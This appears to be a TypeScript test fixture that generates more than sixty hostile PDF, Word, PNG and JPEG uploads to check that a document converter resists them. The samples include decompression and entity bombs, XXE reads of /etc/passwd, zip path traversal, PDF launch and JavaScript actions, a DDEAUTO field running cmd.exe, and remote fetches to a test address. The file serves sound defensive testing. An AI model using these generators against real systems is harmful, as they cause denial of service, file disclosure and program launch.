import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import JSZip from 'jszip';
import { jpeg, png, svg } from './images.ts';
import { docxWithHtml, docxWithReference, docxWithRemotePicture, minimalDocx, minimalParts } from './minimalDocx.ts';
import { activePdf, encryptedPdf, numbersPdf, pageBombPdf, pdf } from './pdfs.ts';
import { type Body, catalog, pagesOfOne, pdfOf, streamOf } from './rawPdf.ts';
import { docx } from './statementDocx.ts';
import { zip } from './zip.ts';

/*
 * Files that attack the program that opens them, each below 1 MB, as an applicant may send it. A program that opens one must not
 * load something from `address`, run a script, or take more time or memory than a conversion has.
 */

export interface HostileFile {
  name: string;
  /** Its file name in the upload. */
  as: string;
  make: (address: string) => Buffer | Promise<Buffer>;
  /** Whether it can be read at all. @default either may happen */
  ends?: 'COMPLETED' | 'FAILED';
}

/** A page whose content and resources are given; further objects begin at 5. */
const pagePdf = (content: Buffer, { more = [] as readonly Body[], page = '', dictionary = '' } = {}): Buffer =>
  pdfOf([
    catalog,
    pagesOfOne,
    `<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R ${page}>>`,
    streamOf(dictionary, content),
    ...more,
  ]);

const drawn = (dictionary: string) => `/Resources <</XObject <</X 5 0 R>> ${dictionary}>>`;
const flate = '/Filter /FlateDecode';
const megabytes = (count: number) => Buffer.alloc(count * 1_000_000, ' ');
const packed = (bytes: Buffer) => deflateSync(bytes, { level: 9 });

/** An image that claims a size, with these packed pixels. */
const imagePdf = (width: number, height: number, filter: string, data: Buffer): Buffer =>
  pagePdf(Buffer.from('612 0 0 792 0 0 cm /X Do'), {
    page: drawn(''),
    more: [
      streamOf(
        `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceRGB /BitsPerComponent 8 ${filter}`,
        data,
      ),
    ],
  });

/** LZW codes that repeat one letter: each code adds one letter more than the one before, and a clear begins anew. */
function lzwOf(repeats: number): Buffer {
  let bits = '';
  const parts: number[] = [];
  const add = (code: number, width: number) => {
    bits += code.toString(2).padStart(width, '0');
    while (bits.length >= 8) {
      parts.push(Number.parseInt(bits.slice(0, 8), 2));
      bits = bits.slice(8);
    }
  };
  for (let round = 0; round < repeats; round += 1) {
    add(256, round === 0 ? 9 : 12);
    add(32, 9);
    for (let code = 258; code < 4095; code += 1) add(code, code < 511 ? 9 : code < 1023 ? 10 : code < 2047 ? 11 : 12);
  }
  add(257, 12);
  add(0, 8);
  return Buffer.from(parts);
}

/** Forms that each draw the next one ten times. */
function nestedForms(depth: number, times: number): Buffer {
  const forms = Array.from({ length: depth }, (_, index) =>
    streamOf(
      `/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources <</XObject <</X ${Math.min(index + 6, depth + 4)} 0 R>>>>`,
      Buffer.from(index === depth - 1 ? '0 0 1 1 re f' : '/X Do '.repeat(times)),
    ),
  );
  return pagePdf(Buffer.from('/X Do'), { page: drawn(''), more: forms });
}

const action = (dictionary: string) =>
  pdfOf([
    `<</Type /Catalog /Pages 2 0 R /OpenAction 4 0 R>>`,
    pagesOfOne,
    emptyPage,
    `<</Type /Action ${dictionary}>>`,
  ]);
const emptyPage = '<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]>>';
const objectStreamPdf = (entries: string, bytes: Buffer) =>
  pdfOf([catalog, pagesOfOne, emptyPage, streamOf(`/Type /ObjStm /First 4 ${entries}`, bytes)]);

/** A tree of pages this deep, with one page. */
function deepTree(depth: number): Buffer {
  const nodes = Array.from(
    { length: depth },
    (_, index) => `<</Type /Pages /Kids [${index + 3} 0 R] /Count 1 ${index > 0 ? `/Parent ${index + 1} 0 R` : ''}>>`,
  );
  return pdfOf([catalog, ...nodes, `<</Type /Page /Parent ${depth + 1} 0 R /MediaBox [0 0 9 9]>>`]);
}

const paragraph = (inner: string) => `<w:p><w:r><w:t>${inner}</w:t></w:r></w:p>`;
const wordXml = (inner: string, before = '') =>
  String(minimalParts['word/document.xml'])
    .replace(/<w:body>.*<\/w:body>/, () => `<w:body>${inner}</w:body>`)
    .replace(/^<\?xml version="1.0"\?>/, () => `<?xml version="1.0"?>${before}`);
const docxOf = (inner: string, before = '') => minimalDocx({ 'word/document.xml': wordXml(inner, before) });

/** A table in a table, this deep. */
const nestedTables = (depth: number) =>
  '<w:tbl><w:tr><w:tc>'.repeat(depth) + paragraph('x') + '</w:tc></w:tr></w:tbl><w:p/>'.repeat(depth);

const field = (instruction: string) =>
  `<w:p><w:fldSimple w:instr="${instruction}">${'<w:r><w:t>x</w:t></w:r>'}</w:fldSimple></w:p>`;

/** A Word document with another picture in place of its own. */
async function docxWithPicture(picture: Buffer): Promise<Buffer> {
  const archive = await JSZip.loadAsync(await docx());
  for (const name of Object.keys(archive.files)) if (name.includes('media/')) archive.file(name, picture);
  return archive.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}

/** A zip whose entries all point at the same packed bytes. */
function overlappingZip(entries: number): Buffer {
  const whole = zip({ ...minimalParts, 'word/a.xml': megabytes(10) });
  const end = whole.lastIndexOf('PK\x05\x06', undefined, 'latin1');
  const first = whole.lastIndexOf('PK\x01\x02', undefined, 'latin1');
  const last = whole.subarray(first, end);
  const tail = Buffer.from(whole.subarray(end));
  tail.writeUInt16LE(tail.readUInt16LE(8) + entries, 8);
  tail.writeUInt16LE(tail.readUInt16LE(8), 10);
  tail.writeUInt32LE(tail.readUInt32LE(12) + last.length * entries, 12);
  return Buffer.concat([whole.subarray(0, end), ...Array<Buffer>(entries).fill(last), tail]);
}

const remote = (address: string) => `${address}/asked`;

const pdfs: readonly HostileFile[] = [
  {
    name: 'a page that unpacks to 900 MB',
    as: 'a.pdf',
    ends: 'FAILED',
    make: () => pagePdf(packed(megabytes(900)), { dictionary: flate }),
  },
  { name: 'ten pages that unpack to 90 MB each', as: 'a.pdf', ends: 'FAILED', make: () => tenPages(90) },
  {
    name: 'a page packed three times, which unpacks to 900 MB',
    as: 'a.pdf',
    ends: 'FAILED',
    make: () => packedThrice(),
  },
  {
    name: 'a page in LZW that unpacks to gigabytes',
    as: 'a.pdf',
    ends: 'FAILED',
    make: () => pagePdf(lzwOf(170), { dictionary: '/Filter /LZWDecode' }),
  },
  {
    name: 'a picture of 100 gigapixels in a PDF',
    as: 'a.pdf',
    ends: 'FAILED',
    make: () => imagePdf(300_000, 300_000, flate, packed(megabytes(1))),
  },
  {
    name: 'a JPEG in a PDF that claims 60,000 by 60,000',
    as: 'a.pdf',
    ends: 'FAILED',
    make: () => imagePdf(60_000, 60_000, '/Filter /DCTDecode', jpeg()),
  },
  {
    name: 'a picture in a PDF that unpacks to 400 MB',
    as: 'a.pdf',
    ends: 'FAILED',
    make: () => imagePdf(20_000, 6667, flate, packed(Buffer.alloc(400_000_000, 120))),
  },
  {
    name: 'a page 10^9 points wide',
    as: 'a.pdf',
    make: () => pdfOf([catalog, pagesOfOne, '<</Type /Page /Parent 2 0 R /MediaBox [0 0 1000000000 1000000000]>>']),
  },
  {
    name: 'a page without an area',
    as: 'a.pdf',
    make: () => pdfOf([catalog, pagesOfOne, '<</Type /Page /Parent 2 0 R /MediaBox [0 0 0 0]>>']),
  },
  {
    name: 'a page whose box is words',
    as: 'a.pdf',
    make: () => pdfOf([catalog, pagesOfOne, '<</Type /Page /Parent 2 0 R /MediaBox [(a) (b) (c) (d)]>>']),
  },
  { name: 'forms that draw each other 10^10 times', as: 'a.pdf', make: () => nestedForms(10, 10) },
  {
    name: 'a form that draws itself',
    as: 'a.pdf',
    make: () =>
      pagePdf(Buffer.from('/X Do'), {
        page: drawn(''),
        more: [
          streamOf(
            '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources <</XObject <</X 5 0 R>>>>',
            Buffer.from('/X Do'),
          ),
        ],
      }),
  },
  {
    name: 'a tree of pages that contains itself',
    as: 'a.pdf',
    make: () => pdfOf([catalog, '<</Type /Pages /Kids [2 0 R] /Count 1>>']),
  },
  { name: 'a tree of pages 20,000 deep', as: 'a.pdf', make: () => deepTree(10_000) },
  {
    name: 'a page that is its own parent',
    as: 'a.pdf',
    make: () => pdfOf([catalog, pagesOfOne, '<</Type /Page /Parent 3 0 R>>']),
  },
  {
    name: 'two million pages claimed',
    as: 'a.pdf',
    make: () => pdfOf([catalog, '<</Type /Pages /Kids [3 0 R] /Count 2000000>>', emptyPage]),
  },
  { name: '10,000 pages of one object', as: 'a.pdf', ends: 'FAILED', make: () => pageBombPdf(10_000) },
  {
    name: 'a cross-reference table that points at itself',
    as: 'a.pdf',
    make: () =>
      Buffer.from(
        pdfOf([catalog, pagesOfOne, emptyPage], '/Prev 9')
          .toString('latin1')
          .replace(/startxref\n\d+/, 'startxref\n9'),
        'latin1',
      ),
  },
  {
    name: 'a cross-reference table of 10^9 entries',
    as: 'a.pdf',
    make: () =>
      Buffer.from(
        pdfOf([catalog, pagesOfOne, emptyPage]).toString('latin1').replace('xref\n0 4', 'xref\n0 1000000000'),
        'latin1',
      ),
  },
  { name: 'a reference that refers to itself', as: 'a.pdf', make: () => pdfOf([catalog, pagesOfOne, '3 0 R']) },
  {
    name: 'a stream whose length is itself',
    as: 'a.pdf',
    make: () =>
      pdfOf([
        catalog,
        pagesOfOne,
        '<</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R>>',
        '<</Length 4 0 R>>\nstream\nq Q\nendstream',
      ]),
  },
  {
    name: 'an object stream that claims 10^9 objects',
    as: 'a.pdf',
    make: () => objectStreamPdf(`/N 1000000000 ${flate}`, packed(Buffer.from('9 0 null'))),
  },
  { name: 'an object stream of 40 million numbers', as: 'a.pdf', make: () => numbersPdf(40_000_000) },
  {
    name: 'an object stream that extends itself',
    as: 'a.pdf',
    make: () => objectStreamPdf('/N 1 /Extends 4 0 R', Buffer.from('9 0 null')),
  },
  {
    name: 'lists nested 200,000 deep',
    as: 'a.pdf',
    make: () =>
      pdfOf([
        catalog,
        pagesOfOne,
        `<</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /A ${'['.repeat(200_000)}${']'.repeat(200_000)}>>`,
      ]),
  },
  {
    name: 'dictionaries nested 100,000 deep',
    as: 'a.pdf',
    make: () =>
      pdfOf([
        catalog,
        pagesOfOne,
        `<</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /A ${'<</A '.repeat(100_000)}1${'>>'.repeat(100_000)}>>`,
      ]),
  },
  {
    name: 'brackets nested 900,000 deep in a text',
    as: 'a.pdf',
    make: () =>
      pdfOf([catalog, pagesOfOne, `<</Type /Page /Parent 2 0 R /A ${'('.repeat(400_000)}${')'.repeat(400_000)}>>`]),
  },
  {
    name: 'a name of a million letters',
    as: 'a.pdf',
    make: () =>
      pdfOf([catalog, pagesOfOne, `<</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /${'A'.repeat(900_000)} 1>>`]),
  },
  { name: 'a font program of noise', as: 'a.pdf', make: () => fontPdf(randomBytes(200_000)) },
  {
    name: 'a font that unpacks to 500 MB',
    as: 'a.pdf',
    ends: 'FAILED',
    make: () => fontPdf(packed(megabytes(500)), flate),
  },
  {
    name: 'a script on opening',
    as: 'a.pdf',
    ends: 'COMPLETED',
    make: (address) => action(`/S /JavaScript /JS (this.submitForm\\("${remote(address)}"\\))`),
  },
  { name: 'a program on opening', as: 'a.pdf', ends: 'COMPLETED', make: () => action('/S /Launch /F (cmd.exe)') },
  {
    name: 'a form sent on opening',
    as: 'a.pdf',
    ends: 'COMPLETED',
    make: (address) => action(`/S /SubmitForm /F (${remote(address)})`),
  },
  {
    name: 'a page from elsewhere',
    as: 'a.pdf',
    ends: 'COMPLETED',
    make: (address) => action(`/S /GoToR /F (${remote(address)}) /D [0 /Fit]`),
  },
  {
    name: 'content from elsewhere',
    as: 'a.pdf',
    make: (address) => pagePdf(Buffer.from('q Q'), { dictionary: `/F (${remote(address)}) /FFilter /FlateDecode` }),
  },
  { name: 'scripts, files and actions of all kinds', as: 'a.pdf', ends: 'COMPLETED', make: () => activePdf() },
  {
    name: 'an XFA form with a remote schema',
    as: 'a.pdf',
    make: (address) =>
      pdfOf([
        `<</Type /Catalog /Pages 2 0 R /AcroForm <</XFA 4 0 R /Fields []>>>>`,
        pagesOfOne,
        emptyPage,
        streamOf('', Buffer.from(`<!DOCTYPE a SYSTEM "${remote(address)}"><xdp/>`)),
      ]),
  },
  { name: 'a password', as: 'a.pdf', ends: 'FAILED', make: () => encryptedPdf() },
  {
    name: 'an encryption that is not known',
    as: 'a.pdf',
    make: () => pdfOf([catalog, pagesOfOne, emptyPage, '<</Filter /Evil /V 99>>'], '/Encrypt 4 0 R'),
  },
  { name: 'half a PDF', as: 'a.pdf', make: async () => (await pdf({ pages: 20 })).subarray(0, 2000) },
  {
    name: 'a PDF without its first half',
    as: 'a.pdf',
    ends: 'FAILED',
    make: async () => (await pdf({ pages: 20 })).subarray(2000),
  },
  {
    name: 'a PDF header and noise',
    as: 'a.pdf',
    ends: 'FAILED',
    make: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(900_000)]),
  },
  { name: 'a PDF that is a zip, too', as: 'a.pdf', make: async () => Buffer.concat([await pdf(), minimalDocx()]) },
  {
    name: 'a PDF with a web page in front',
    as: 'a.pdf',
    make: async (address) => Buffer.concat([Buffer.from(`<html><img src="${remote(address)}"></html>\n`), await pdf()]),
  },
];

function tenPages(each: number): Buffer {
  const content = packed(megabytes(each));
  const kids = Array.from({ length: 10 }, (_, index) => `${index * 2 + 3} 0 R`).join(' ');
  const pages = Array.from({ length: 10 }, (_, index) => [
    `<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${index * 2 + 4} 0 R>>`,
    streamOf(flate, content),
  ]).flat();
  return pdfOf([catalog, `<</Type /Pages /Kids [${kids}] /Count 10>>`, ...pages]);
}

/** 2 kB: what is packed once is regular enough to be packed again. */
const packedThrice = (): Buffer =>
  pagePdf(packed(packed(packed(megabytes(900)))), { dictionary: '/Filter [/FlateDecode /FlateDecode /FlateDecode]' });

function fontPdf(program: Buffer, dictionary = ''): Buffer {
  return pagePdf(Buffer.from('BT /F 12 Tf 72 700 Td (Hello) Tj ET'), {
    page: '/Resources <</Font <</F 5 0 R>>>>',
    more: [
      '<</Type /Font /Subtype /TrueType /BaseFont /Evil /FontDescriptor 6 0 R /FirstChar 32 /LastChar 32 /Widths [600]>>',
      '<</Type /FontDescriptor /FontName /Evil /Flags 4 /FontBBox [0 0 9 9] /ItalicAngle 0 /Ascent 9 /Descent 0 /CapHeight 9 /StemV 9 /FontFile2 7 0 R>>',
      streamOf(dictionary, program),
    ],
  });
}

const documents: readonly HostileFile[] = [
  {
    name: 'a Word document that unpacks to 100 MB',
    as: 'a.docx',
    ends: 'FAILED',
    make: () => docxOf(paragraph('a'.repeat(100_000_000))),
  },
  {
    name: 'a Word document whose entries share 10 MB a thousand times',
    as: 'a.docx',
    ends: 'FAILED',
    make: () => overlappingZip(1000),
  },
  {
    name: 'a Word document in a Word document in a Word document',
    as: 'a.docx',
    make: () => minimalDocx({ 'word/a.docx': minimalDocx({ 'word/a.docx': minimalDocx() }) }),
  },
  { name: 'a part that claims to be small', as: 'a.docx', ends: 'FAILED', make: () => lyingZip() },
  {
    name: 'a name that leaves the folder',
    as: 'a.docx',
    ends: 'FAILED',
    make: () => minimalDocx({ '../../etc/evil': 'a' }),
  },
  { name: 'entities that multiply', as: 'a.docx', ends: 'FAILED', make: () => docxOf(paragraph('&j;'), laughs) },
  {
    name: 'an entity from a file',
    as: 'a.docx',
    ends: 'FAILED',
    make: () => docxOf(paragraph('&e;'), '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
  },
  {
    name: 'an entity from elsewhere',
    as: 'a.docx',
    ends: 'FAILED',
    make: (address) => docxOf(paragraph('&e;'), `<!DOCTYPE a [<!ENTITY e SYSTEM "${remote(address)}">]>`),
  },
  {
    name: 'elements nested 300,000 deep',
    as: 'a.docx',
    make: () =>
      docxOf('<w:sdt><w:sdtContent>'.repeat(100_000) + paragraph('x') + '</w:sdtContent></w:sdt>'.repeat(100_000)),
  },
  { name: 'tables nested 2,000 deep', as: 'a.docx', make: () => docxOf(nestedTables(2000)) },
  {
    name: 'a table of 200,000 cells',
    as: 'a.docx',
    make: () => docxOf(`<w:tbl>${`<w:tr>${`<w:tc>${paragraph('x')}</w:tc>`.repeat(50)}</w:tr>`.repeat(2000)}</w:tbl>`),
  },
  {
    name: '100,000 page breaks',
    as: 'a.docx',
    ends: 'FAILED',
    make: () => docxOf('<w:p><w:r><w:br w:type="page"/></w:r></w:p>'.repeat(100_000)),
  },
  { name: 'a picture from elsewhere', as: 'a.docx', make: (address) => docxWithRemotePicture(remote(address)) },
  ...['image', 'oleObject', 'frame', 'subDocument', 'attachedTemplate', 'hyperlink'].map(
    (type): HostileFile => ({
      name: `a relationship of type ${type} to elsewhere`,
      as: 'a.docx',
      make: (address) => docxWithReference(type, remote(address)),
    }),
  ),
  {
    name: 'a web page inside, with a script',
    as: 'a.docx',
    make: (address) => docxWithHtml(`<script>fetch("${remote(address)}")</script><img src="${remote(address)}">`),
  },
  {
    name: 'a field that includes a picture from elsewhere',
    as: 'a.docx',
    make: (address) => docxOf(field(`INCLUDEPICTURE &quot;${remote(address)}&quot;`)),
  },
  {
    name: 'a field that starts a program',
    as: 'a.docx',
    make: () => docxOf(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;')),
  },
  {
    name: 'a program in an OLE object',
    as: 'a.docx',
    make: () =>
      minimalDocx({
        'word/embeddings/oleObject1.bin': Buffer.concat([Buffer.from('D0CF11E0A1B11AE1', 'hex'), randomBytes(50_000)]),
      }),
  },
  { name: 'macros', as: 'a.docx', make: () => minimalDocx({ 'word/vbaProject.bin': randomBytes(50_000) }) },
  {
    name: 'a font of noise inside',
    as: 'a.docx',
    make: () => minimalDocx({ 'word/fonts/font1.odttf': randomBytes(200_000) }),
  },
  {
    name: 'a picture of 3.6 gigapixels inside',
    as: 'a.docx',
    make: () => docxWithPicture(png({ claimedSize: { width: 60_000, height: 60_000 } })),
  },
  {
    name: 'a picture inside that unpacks to 300 MB',
    as: 'a.docx',
    make: () => docxWithPicture(png({ width: 10_000, height: 10_000 })),
  },
  { name: 'half a Word document', as: 'a.docx', ends: 'FAILED', make: async () => (await docx()).subarray(0, 4000) },
  {
    name: 'a spreadsheet as a Word document',
    as: 'a.docx',
    ends: 'FAILED',
    make: () => zip({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<workbook/>' }),
  },
];

const laughs = `<!DOCTYPE a [<!ENTITY a "ha">${[...'bcdefghij'].map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index]};`.repeat(10)}">`).join('')}]>`;

/** The central directory says 10 bytes where 30 MB are packed. */
function lyingZip(): Buffer {
  const whole = zip({ ...minimalParts, 'word/a.xml': megabytes(30) });
  const first = whole.lastIndexOf('PK\x01\x02', undefined, 'latin1');
  whole.writeUInt32LE(10, first + 24);
  return whole;
}

/** A PNG whose text chunk unpacks to 200 MB. */
const chunkBomb = (): Buffer => {
  const whole = png();
  const text = Buffer.concat([Buffer.from('zTXtComment\0\0'), packed(megabytes(200))]);
  const size = Buffer.alloc(4);
  size.writeUInt32BE(text.length - 4);
  const end = whole.length - 12;
  return Buffer.concat([whole.subarray(0, end), size, text, Buffer.alloc(4), whole.subarray(end)]);
};

const pictures: readonly HostileFile[] = [
  {
    name: 'a PNG that claims 60,000 by 60,000',
    as: 'a.png',
    ends: 'FAILED',
    make: () => png({ claimedSize: { width: 60_000, height: 60_000 } }),
  },
  {
    name: 'a PNG that claims 2^31 by 2^31',
    as: 'a.png',
    ends: 'FAILED',
    make: () => png({ claimedSize: { width: 2 ** 31 - 1, height: 2 ** 31 - 1 } }),
  },
  { name: 'a PNG without a width', as: 'a.png', make: () => png({ claimedSize: { width: 0, height: 30 } }) },
  {
    name: 'a PNG that unpacks to 900 MB and claims 40 by 30',
    as: 'a.png',
    make: () => png({ width: 30_000, height: 10_000, claimedSize: { width: 40, height: 30 } }),
  },
  { name: 'a PNG with a text that unpacks to 200 MB', as: 'a.png', make: chunkBomb },
  { name: 'a PNG of 24 megapixels', as: 'a.png', make: () => png({ width: 6000, height: 4000 }) },
  { name: 'a JPEG that claims 65,000 by 65,000', as: 'a.jpg', ends: 'FAILED', make: () => claimingJpeg() },
  { name: 'a JPEG and a zip', as: 'a.jpg', make: () => Buffer.concat([jpeg(), minimalDocx()]) },
  { name: 'half a PNG', as: 'a.png', ends: 'FAILED', make: () => png({ width: 400, height: 400 }).subarray(0, 200) },
  {
    name: 'a JPEG of markers only',
    as: 'a.jpg',
    make: () => Buffer.concat([Buffer.from('ffd8', 'hex'), Buffer.alloc(900_000, 0xff), Buffer.from('ffd9', 'hex')]),
  },
];

/** The frame header (FFC0) says 65,000 by 65,000. */
function claimingJpeg(): Buffer {
  const whole = jpeg();
  const frame = whole.indexOf(Buffer.from('ffc0', 'hex'));
  whole.writeUInt16BE(65_000, frame + 5);
  whole.writeUInt16BE(65_000, frame + 7);
  return whole;
}

const gif = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const renamed: readonly HostileFile[] = (
  [
    ['a GIF as a PNG', 'a.png', () => gif],
    ['an SVG as a PNG', 'a.png', () => svg],
    [
      'an SVG that loads a picture, as a PDF',
      'a.pdf',
      (address) => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${remote(address)}"/></svg>`),
    ],
    [
      'a web page as a PDF',
      'a.pdf',
      (address) => Buffer.from(`<!doctype html><script src="${remote(address)}"></script>`),
    ],
    [
      'a web page as a Word document',
      'a.docx',
      (address) => Buffer.from(`<html><img src="${remote(address)}"></html>`),
    ],
    [
      'RTF as a Word document',
      'a.docx',
      (address) => Buffer.from(`{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "${remote(address)}"}}}`),
    ],
    [
      'an old Word document',
      'a.docx',
      () => Buffer.concat([Buffer.from('D0CF11E0A1B11AE1', 'hex'), randomBytes(100_000)]),
    ],
    ['PostScript as a PDF', 'a.pdf', () => Buffer.from('%!PS-Adobe-3.0\n{} loop\n')],
    ['a program as a PNG', 'a.png', () => Buffer.concat([Buffer.from('\x7fELF'), randomBytes(50_000)])],
    ['a TIFF as a JPEG', 'a.jpg', () => Buffer.concat([Buffer.from('49492a0008000000', 'hex'), randomBytes(50_000)])],
    ['one byte', 'a.pdf', () => Buffer.from('%')],
    ['a million zeros', 'a.png', () => Buffer.alloc(1_000_000)],
  ] as const satisfies readonly (readonly [string, string, HostileFile['make']])[]
).map(([name, as, make]): HostileFile => ({ name, as, make, ends: 'FAILED' }));

/** At least sixty kinds. */
export const hostileFiles: readonly HostileFile[] = [...pdfs, ...documents, ...pictures, ...renamed];
